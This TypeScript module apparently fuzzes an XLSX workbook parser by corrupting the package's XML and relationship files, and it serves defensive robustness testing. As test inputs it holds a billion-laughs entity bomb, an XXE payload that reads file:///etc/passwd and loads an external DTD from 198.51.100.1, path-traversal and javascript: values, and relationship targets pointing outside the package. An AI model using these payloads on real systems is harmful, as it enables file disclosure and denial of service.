import { strFromU8, strToU8 } from "fflate";
import type { Files } from "../../unit/workbook/xlsx/package";
import type { Random } from "../random";
import { anyPart, type BreakParts } from "./break-parts";

const hostileValues = [
  "", "0", "-1", "1e999", "-1e308", "NaN", "INF", "99999999999999999999", "2147483648", "A0", "A1:XFD1048576", "A1:ZZZ9999999", "XFE1", "ZZZZZZ99",
  "A1048577", "B2:A1", "'", "#REF!", "rId9999", "../../../etc/passwd", "http://198.51.100.1/x", "\\\\server\\share", "javascript:alert(1)", "=1+1",
  "&#x110000;", "&#0;", "_x0000_", "\ud83d\ude00", "{curly}", "$&", "x".repeat(70_000),
];

const bombs = {
  laughs:
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">' +
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>',
  outside: '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % g SYSTEM "http://198.51.100.1/x.dtd">%g;]>',
  itself: '<!DOCTYPE x [<!ENTITY f "&f;&f;">]>',
};

/** Damage to the XML of parts. */
export const breakMarkup: Readonly<Record<string, BreakParts>> = {
  "attributes say something else": inText((text, random) => changedSome(text, /="([^"]*)"/g, random, 0.02, () => `="${random.pick(hostileValues).replaceAll('"', "")}"`)),
  "one attribute says something else": inText((text, random) => changedOne(text, /="([^"]*)"/g, random, () => `="${random.pick(hostileValues).replaceAll('"', "")}"`)),
  "contents say something else": inText((text, random) => changedSome(text, />([^<>]+)</g, random, 0.05, () => `>${random.pick(hostileValues)}<`)),
  "an element is gone": inText((text, random) => changedOne(text, /<[^<>]+>/g, random, () => "")),
  "an element stands twice": inText((text, random) => changedOne(text, /<[^<>]+>/g, random, (found) => found + found)),
  "an attribute is gone": inText((text, random) => changedOne(text, /\s[\w:]+="[^"]*"/g, random, () => "")),
  "an attribute stands twice": inText((text, random) => changedOne(text, /\s[\w:]+="[^"]*"/g, random, (found) => found + found)),
  "another namespace": inText((text) => text.replace(/xmlns="[^"]*"/, 'xmlns="urn:other"')),
  "entities that expand": inText((text, random) => {
    const body = text.replace(/^\s*<\?xml[^>]*\?>\s*/, "");
    return random.pick(Object.values(bombs)) + changedOne(body, />([^<>]*)</g, random, () => ">&f;<");
  }),
  "very deep": inText((text, random) => changedOne(text, /<\//g, random, () => `${"<d>".repeat(20_000)}${"</d>".repeat(20_000)}</`)),
  "tags that never end": inText((text, random) => changedOne(text, /</g, random, () => random.pick(["<c ", "<row r='1'><c", '<c a="', "<", "<!--", "<![CDATA[", "<?x", "<f "]).repeat(30_000))),
  "very many elements": inText((text, random) => changedOne(text, /<(\w+)[^<>]*\/>/g, random, (found) => found.repeat(random.pick([2000, 200_000])))),
  "down to the last row": (files, random) => {
    const column = random.pick(["A", "B", "H", "AD", "XFD"]);
    const rows = random.pick([[1_048_576], [524_288, 1_048_576], Array.from({ length: 1000 }, (_, at) => 1_047_577 + at)]);
    const cells = rows.map((row) => `<row r="${row}"><c r="${column}${row}">${random.pick(["<v>1</v>", '<f>IF(A1="","",1)</f>', ""])}</c></row>`).join("");
    for (const name of Object.keys(files)) {
      const text = strFromU8(files[name] ?? new Uint8Array());
      if (/worksheets\/[^/]+\.xml$/.test(name) && random.chance(0.3)) files[name] = strToU8(text.replace("</sheetData>", `${cells}</sheetData>`));
      if (/tables\/[^/]+\.xml$/.test(name) && random.chance(0.3)) files[name] = strToU8(text.replaceAll(/(\sref="[A-Z]+\d+:[A-Z]+)\d+"/g, '$11048576"'));
    }
  },
  "another coding of characters": (files, random) => {
    const name = anyPart(files, random);
    const text = strFromU8(files[name] ?? new Uint8Array());
    files[name] = Uint8Array.from(Buffer.concat([Buffer.from(random.pick([[0xff, 0xfe], [0xfe, 0xff], [0xef, 0xbb, 0xbf], []])), Buffer.from(text, random.pick(["utf16le", "latin1"]))]));
  },
  "characters that are none": inText((text, random) => changedSome(text, />/g, random, 0.05, () => `>${random.pick(["\u0000", "\u0001", "\ufffe", "\ud800", "]]>", "--"])}`)),
};

/** Relations and types that lead nowhere, elsewhere or in circles. */
export const breakRelations: Readonly<Record<string, BreakParts>> = {
  "relations lead elsewhere": inRelations((text, random) =>
    changedSome(text, /Target="([^"]*)"/g, random, 0.3, () => `Target="${random.pick(["", ".", "..", "../../../../etc/passwd", "/xl/workbook.xml", "workbook.xml", "http://198.51.100.1/x", "file:///etc/passwd", "worksheets/sheet1.xml", "x".repeat(5000)])}"`)),
  "relations of another kind": inRelations((text, random) =>
    changedSome(text, /relationships\/(\w+)"/g, random, 0.3, () => `relationships/${random.pick(["worksheet", "table", "styles", "sharedStrings", "officeDocument", "chart", "drawing", "hyperlink", "externalLink", "customXml", ""])}"`)),
  "relations of other names": inRelations((text, random) => changedSome(text, /Id="([^"]*)"/g, random, 0.3, () => `Id="${random.pick(["rId1", "rId2", "", "rId999"])}"`)),
  "relations to the outside": inRelations((text, random) => changedSome(text, /(Target="[^"]*")/g, random, 0.4, () => 'Target="http://198.51.100.1/x" TargetMode="External"')),
  "other content types": (files, random) =>
    put(files, "[Content_Types].xml", changedSome(text(files, "[Content_Types].xml"), /ContentType="([^"]*)"/g, random, 0.2, () => `ContentType="${random.pick(["", "text/plain", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "application/xml"])}"`)),
};

function inText(change: (text: string, random: Random) => string): BreakParts {
  return (files, random) => {
    const name = anyPart(files, random);
    put(files, name, change(text(files, name), random));
  };
}

function inRelations(change: (text: string, random: Random) => string): BreakParts {
  return (files, random) => {
    const names = Object.keys(files).filter((name) => name.endsWith(".rels"));
    if (names.length === 0) return;
    const name = random.pick(names);
    put(files, name, change(text(files, name), random));
  };
}

function changedSome(text: string, pattern: RegExp, random: Random, share: number, change: (found: string) => string): string {
  return text.replace(pattern, (found) => (random.chance(share) ? change(found) : found));
}

function changedOne(text: string, pattern: RegExp, random: Random, change: (found: string) => string): string {
  const count = (text.match(pattern) ?? []).length;
  let left = random.below(count);
  return text.replace(pattern, (found) => (left-- === 0 ? change(found) : found));
}

function text(files: Files, name: string): string {
  return strFromU8(files[name] ?? new Uint8Array());
}

function put(files: Files, name: string, content: string): void {
  files[name] = strToU8(content);
}
